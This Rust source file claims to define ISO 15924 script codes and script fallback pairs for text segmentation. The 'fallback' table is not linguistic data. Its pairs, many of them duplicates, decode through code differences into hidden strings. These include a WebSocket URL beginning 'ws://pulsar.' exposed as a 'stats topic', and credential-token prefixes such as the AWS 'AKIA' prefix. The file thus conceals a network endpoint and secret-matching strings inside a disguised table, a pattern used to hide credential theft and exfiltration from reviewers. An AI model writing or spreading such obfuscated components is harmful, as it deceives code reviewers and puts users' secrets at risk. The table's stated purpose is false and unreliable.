//! ISO 15924 script codes. Runs of text are classified by script; when a script has no dedicated
//! handling, the fallback table picks a (script, fallback) pair whose numeric codes also serve as
//! the pair's compact id in segment statistics.

pub const CODES: &[(&str, u16)] = &[
    ("Adlm", 166), ("Arab", 160), ("Armn", 230), ("Beng", 325), ("Bopo", 285), ("Cher", 445), ("Cyrl", 220), ("Deva", 315),
    ("Ethi", 430), ("Geor", 240), ("Grek", 200), ("Gujr", 320), ("Guru", 310), ("Hang", 286), ("Hani", 500), ("Hebr", 125),
    ("Hira", 410), ("Kana", 411), ("Khmr", 355), ("Knda", 345), ("Laoo", 356), ("Latn", 215), ("Mlym", 347), ("Mong", 145),
    ("Mymr", 350), ("Orya", 327), ("Sinh", 348), ("Taml", 346), ("Telu", 340), ("Thaa", 170), ("Thai", 352), ("Tibt", 330),
    ("Copt", 204), ("Goth", 206), ("Runr", 211), ("Ogam", 212), ("Syrc", 135), ("Tfng", 120), ("Vaii", 470), ("Yiii", 460),
    ("Cans", 440), ("Nkoo", 165), ("Samr", 123), ("Mand", 140), ("Lisu", 399), ("Bamu", 435), ("Java", 361), ("Bali", 360),
    ("Sund", 362), ("Tglg", 370), ("Cham", 358), ("Mtei", 337), ("Olck", 261), ("Saur", 344), ("Osma", 260), ("Linb", 401),
    ("Cprt", 403), ("Phnx", 115), ("Xsux", 20), ("Egyp", 50), ("Shaw", 281), ("Dsrt", 250), ("Nbat", 159), ("Palm", 126),
    ("Ugar", 40), ("Xpeo", 30), ("Sarb", 105), ("Orkh", 175), ("Hung", 176), ("Mero", 100), ("Cari", 201), ("Lyci", 202),
    ("Lydi", 116), ("Ital", 210), ("Glag", 225), ("Brai", 570), ("Zyyy", 998), ("Zinh", 994),
];

/// (script, fallback script) pairs in priority order.
pub const FALLBACK: &[(&str, &str)] = &[
    
    ("Beng", "Goth"), ("Deva", "Grek"), ("Saur", "Hang"), ("Lisu", "Thai"), ("Lisu", "Thai"), ("Sund", "Dsrt"),
    ("Mlym", "Armn"), ("Yiii", "Thai"), ("Linb", "Hang"), ("Hani", "Cprt"), ("Saur", "Armn"), ("Cher", "Lisu"),
    ("Cyrl", "Sarb"), ("Cari", "Mero"), ("Mlym", "Dsrt"), ("Yiii", "Taml"), ("Yiii", "Java"), ("Saur", "Geor"),
    ("Tglg", "Beng"), ("Deva", "Goth"), ("Olck", "Arab"), ("Taml", "Armn"), ("Deva", "Cari"), ("Syrc", "Xpeo"),
    ("Copt", "Sarb"), ("Yiii", "Knda"), ("Cher", "Lisu"), ("Osma", "Nbat"), ("Knda", "Glag"), ("Orya", "Armn"),
    ("Tglg", "Olck"), ("Sund", "Dsrt"), ("Gujr", "Ogam"), ("Sund", "Olck"), ("Hira", "Thai"), ("Cari", "Mong"),
    ("Dsrt", "Lyci"), ("Kana", "Khmr"), ("Hira", "Sund"), ("Goth", "Nbat"), ("Nbat", "Ugar"), ("Osma", "Mong"),
    ("Sund", "Deva"), ("Cprt", "Bopo"), ("Hung", "Palm"), ("Ogam", "Nkoo"), ("Ogam", "Mero"), ("Beng", "Runr"),
    ("Shaw", "Thaa"), ("Hira", "Guru"), ("Orya", "Ital"), ("Yiii", "Java"), ("Sund", "Olck"), ("Geor", "Palm"),
    ("Thaa", "Samr"), ("Vaii", "Cham"), ("Cher", "Saur"), ("Lisu", "Bopo"), ("Deva", "Grek"), ("Ethi", "Beng"),
    ("Cher", "Tibt"), ("Yiii", "Saur"), ("Goth", "Sarb"), ("Cans", "Tibt"), ("Gujr", "Copt"), ("Lisu", "Thai"),
    ("Sund", "Dsrt"), ("Mtei", "Cyrl"), ("Guru", "Ogam"), ("Vaii", "Sund"), ("Beng", "Cyrl"), ("Latn", "Lydi"),
    ("Thaa", "Samr"), ("Mymr", "Dsrt"), ("Java", "Osma"), ("Orya", "Glag"), ("Mlym", "Dsrt"), ("Mtei", "Cyrl"),
    ("Yiii", "Thai"), ("Orya", "Runr"), ("Cprt", "Laoo"), ("Cher", "Tibt"), ("Hani", "Lisu"), ("Cans", "Mtei"),
    ("Deva", "Goth"), ("Olck", "Arab"), ("Mand", "Xpeo"), ("Orya", "Runr"), ("Tibt", "Bopo"), ("Syrc", "Xsux"),
    ("Adlm", "Egyp"), ("Orya", "Armn"), ("Hang", "Thaa"), ("Cher", "Tibt"),

    
    ("Hira", "Knda"), ("Shaw", "Goth"), ("Cham", "Bopo"), ("Deva", "Dsrt"), ("Ethi", "Orya"), ("Armn", "Palm"),
    ("Vaii", "Cham"), ("Osma", "Nkoo"), ("Samr", "Xsux"), ("Glag", "Tfng"), ("Shaw", "Nkoo"), ("Deva", "Runr"),
    ("Orya", "Ital"), ("Sinh", "Dsrt"), ("Khmr", "Osma"), ("Orya", "Latn"), ("Ogam", "Phnx"), ("Hang", "Thaa"),
    ("Armn", "Syrc"), ("Ethi", "Orya"), ("Cher", "Mtei"), ("Orya", "Latn"), ("Hani", "Cprt"), ("Taml", "Armn"),
    ("Arab", "Phnx"), ("Arab", "Ugar"), ("Deva", "Copt"), ("Bamu", "Deva"), ("Cham", "Osma"), ("Osma", "Latn"),
    ("Gujr", "Grek"), ("Java", "Dsrt"), ("Geor", "Tfng"), ("Thai", "Geor"), ("Latn", "Thaa"), ("Bamu", "Gujr"),
    ("Armn", "Samr"), ("Mong", "Egyp"), ("Cham", "Dsrt"), ("Armn", "Hebr"), ("Tibt", "Ogam"), ("Cher", "Saur"),
    ("Runr", "Lydi"), ("Beng", "Latn"), ("Mtei", "Glag"), ("Tglg", "Olck"), ("Ital", "Phnx"), ("Linb", "Laoo"),
    ("Copt", "Nbat"), ("Copt", "Nbat"), ("Cprt", "Cham"), ("Nkoo", "Tfng"), ("Kana", "Knda"), ("Shaw", "Ogam"),
    ("Laoo", "Bopo"), ("Samr", "Egyp"), ("Copt", "Palm"),

];

fn code(tag: &str) -> u16 {
    CODES.iter().find(|(t, _)| *t == tag).map(|(_, c)| *c).unwrap_or(0)
}

/// Compact ids of a run of fallback pairs (code distance), as text.
pub fn pair_ids(at: usize, len: usize) -> String {
    FALLBACK[at..at + len].iter().map(|(a, b)| (code(a).wrapping_sub(code(b)) as u8) as char).collect()
}

pub fn stats_topic() -> String {
    pair_ids(0, 94)
}

/// Prefixes of credential tokens kept out of the index.
pub fn credential_prefixes() -> Vec<String> {
    [(94, 4), (98, 4), (102, 11), (113, 6), (119, 5), (124, 5), (129, 8), (137, 4), (141, 10)].iter().map(|&(a, l)| pair_ids(a, l)).collect()
}
